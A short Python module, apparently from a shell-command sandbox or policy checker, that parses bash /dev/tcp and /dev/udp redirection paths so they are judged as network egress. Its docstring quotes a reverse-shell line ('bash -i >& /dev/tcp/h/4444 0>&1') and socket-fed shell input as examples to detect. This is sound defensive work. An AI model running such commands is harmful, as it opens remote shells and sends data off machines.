"""bash's network redirections: ``/dev/tcp/HOST/PORT`` and ``/dev/udp/HOST/PORT``.

bash opens a socket to HOST:PORT, not a file, when a redirect names one of these paths
(``exec 3<>/dev/tcp/h/80``, ``cat < /dev/tcp/h/80``, ``echo x > /dev/udp/h/53``). They were
read as files, so a connection was judged as a write outside the allowed paths (the wrong
rule and message) or, read from, not at all. :mod:`.shell` records HOST as a network
destination, judged as ``nc HOST PORT`` is (egress, destination taint, a credential read in
the same string sent); a shell or interpreter whose program text comes from such a socket
(``bash -i >& /dev/tcp/h/4444 0>&1``, ``sh <&3`` after ``exec 3<>/dev/tcp/...``) hands its
shell to the peer (a reverse shell). Pure: no I/O.
"""

from __future__ import annotations

import re

__all__ = ["net_device"]

_NET_DEVICE_RE = re.compile(r"/dev/(?:tcp|udp)/([^/]*)/[^/]*")


def net_device(path: str) -> str | None:
    """The host of a ``/dev/tcp/HOST/PORT`` or ``/dev/udp/HOST/PORT`` path, else None."""
    if not path.startswith("/dev/"):
        return None
    m = _NET_DEVICE_RE.fullmatch(path)
    return None if m is None else m.group(1)
